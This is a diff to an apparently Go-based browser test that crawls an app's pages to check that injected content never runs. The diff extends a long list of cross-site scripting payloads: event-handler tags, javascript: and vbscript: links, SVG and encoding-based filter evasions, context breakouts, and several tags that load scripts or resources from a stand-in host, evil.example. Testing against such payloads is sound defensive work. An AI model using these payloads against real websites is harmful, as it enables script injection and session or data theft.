@@ -147,7 +147,7 @@ func TestNothingOfOthersRuns(t *testing.T) {
 	queue := []string{"/", "/p/papers/", "/p/papers/found?q=payload", "/p/papers/prompt", "/p/papers/talks", "/p/papers/proposals", "/p/papers/read/"}
 	s.ask("What is payload 3? " + payloads[0])
 	s.until("location.pathname.includes('/ask/') && !document.querySelector('[data-running]')")
-	for len(queue) > 0 && len(seen) < 120 {
+	for len(queue) > 0 && len(seen) < 160 {
 		path := queue[0]
 		if queue = queue[1:]; seen[path] {
 			continue
@@ -180,7 +180,18 @@ var payloads = [...]string{
 	"<img\tsrc=x\tonerror=alert(1)>", `<object data=http://evil.example/x>`, `<embed src=http://evil.example/x>`, `{{constructor.constructor('window.hacked=1')()}}`,
 	`${window.hacked=1}`, `<input autofocus onfocus=alert(1)>`, `<body onload=alert(1)>`, `<isindex action=javascript:alert(1) type=image>`,
 	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<template><script>window.hacked=1</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<plaintext>`,
-	`javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>`, "\u202e<script>window.hacked=1</script>", `<portal src=http://evil.example>`, `<button popovertarget=x onclick=alert(1)>`,
+	`javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>`, "\u202e<script>window.hacked=1</script>", `<svg><script>window.hacked=1</script></svg>`, `<svg><set attributeName=onload to=alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>`,
+	`<svg><foreignObject><iframe srcdoc="<script>top.hacked=1</script>"></foreignObject></svg>`, `<img src="x" onerror="window.hacked=1">`, `<img srcset="http://evil.example/a 1x">`, `<img/src/onerror=alert(1)>`,
+	`<audio src=x onerror=alert(1)>`, `<video poster=http://evil.example/p.png>`, `<marquee onstart=alert(1)>x</marquee>`, `<select autofocus onfocus=alert(1)>`,
+	`<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<dialog open onclose=alert(1)>`, `<div style="background:url(http://evil.example/x)">`,
+	`<div style="animation:x" onanimationstart=alert(1)>`, `<table background=http://evil.example/t.png>`, `<input type=image src=http://evil.example/i.png>`, `<link rel=prefetch href=http://evil.example/p>`,
+	`<link rel=icon href=http://evil.example/i.ico>`, `<script src=http://evil.example/x.js></script>`, `<script type=module>window.hacked=1</script>`, `<script>import('http://evil.example/x.js')</script>`,
+	`<a href="java&#115;cript:alert(1)">x</a>`, `<a href="jav	ascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
+	`<a href="//evil.example" ping=http://evil.example/ping>x</a>`, `<form><button formaction=javascript:alert(1)>x</button></form>`, `<math href="javascript:alert(1)">x</math>`, `<xmp><script>window.hacked=1</script></xmp>`,
+	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<frameset onload=alert(1)>`, `<applet code=x archive=http://evil.example/x.jar>`, `<bgsound src=http://evil.example/x.mid>`,
+	`<layer src=http://evil.example/x>`, `<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>`, `]]><script>window.hacked=1</script>`, `<?xml-stylesheet href="http://evil.example/x.xsl"?>`,
+	`%3Cscript%3Ewindow.hacked=1%3C/script%3E`, `\u003cscript\u003ewindow.hacked=1\u003c/script\u003e`, `'-window.hacked=1-'`, `";window.hacked=1//`,
+	`<portal src=http://evil.example>`, `<button popovertarget=x onclick=alert(1)>`,
 }
 
 // A file that is chosen becomes a source; what is there already is not overwritten.
